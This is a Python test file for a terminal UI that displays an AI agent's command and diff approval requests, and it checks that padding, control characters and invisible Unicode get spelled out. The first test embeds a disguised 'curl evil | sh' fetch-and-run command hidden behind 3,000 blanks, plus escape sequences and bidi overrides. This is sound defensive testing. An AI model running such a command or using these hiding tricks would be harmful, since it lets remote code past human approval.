from rich.cells import cell_len

from agent.permissions.approval import ApprovalRequest
from tui.exact import Row, request_rows, spell_out, wrap_rows


def test_T19_what_could_hide_a_command_is_spelled_out() -> None:
    command = (
        "echo ok"
        + " " * 3_000
        + "; curl evil\t\t\t\t\t\t\t\t| sh\rls\x1b[2K\u200b\u202ex\u00a0y  \n"
        + "\n" * 50
        + "rm x"
    )
    text = spell_out(command)
    assert "echo ok ⟨3,000 blanks⟩ ; curl evil ⟨32 blanks⟩ | sh" in text
    assert "⟨U+200B⟩" in text and "⟨U+202E⟩" in text and "⟨U+00A0⟩" in text and "␛[2K" in text and "␍" in text
    assert "y␠␠\n⟨50 empty lines⟩\nrm x" in text
    assert len(text) < 300


def test_ordinary_commands_are_shown_as_they_are() -> None:
    command = "for f in *.py; do\n    python -m pytest -q \"$f\"\ndone\n\nls -la | grep 'x  y' # 漢字 👩‍💻"
    assert spell_out(command) == command


def test_request_rows_hold_everything_that_is_asked() -> None:
    request = ApprovalRequest(
        "1", "bash", "rm -r x", command="rm -r x\nls", reason="outside the workspace", paths=("/etc/[b]x[/b]",)
    )
    assert [row.text for row in request_rows(request)] == [
        "bash wants to run this command", "outside the workspace", "/etc/[b]x[/b]", "", "rm -r x", "ls",
    ]  # fmt: skip


def test_diff_rows_know_added_removed_and_hunks() -> None:
    request = ApprovalRequest("1", "edit", "a.py", diff="@@ -1 +1 @@\n-old\t1\n+new\x1b[2J\n same\n")
    rows = request_rows(request)[2:]
    assert [(row.kind, row.text) for row in rows] == [
        ("hunk", "@@ -1 +1 @@"), ("removed", "-old    1"), ("added", "+new␛[2J"), ("text", " same"),
    ]  # fmt: skip


def test_a_call_with_neither_command_nor_diff_shows_its_title() -> None:
    rows = request_rows(ApprovalRequest("1", "web_fetch", "https://example.org/\u202egro"))
    assert rows[-1].text == "https://example.org/⟨U+202E⟩gro"


def test_wrapped_rows_lose_no_character_and_fit() -> None:
    text = "echo " + "漢字kanji " * 40 + "end"
    for width in (1, 2, 7, 39, 40, 80):
        wrapped = wrap_rows([Row(text, "command", exact=True)], width)
        margin = 2 if width >= 40 else 0
        assert "".join(row.text[margin:] for row in wrapped) == text
        assert width == 1 or all(cell_len(row.text) <= width for row in wrapped)
    first, second, *_ = wrap_rows([Row("x" * 100, "command", exact=True)], 50)
    assert first.text.startswith("  x") and second.text.startswith("↳ x")


def test_words_wrap_at_blanks_and_long_words_are_cut() -> None:
    rows = wrap_rows([Row("some words and a" + "b" * 20)], 10)
    assert [row.text for row in rows] == ["some words", "and", "a" + "b" * 9, "b" * 10, "b"]
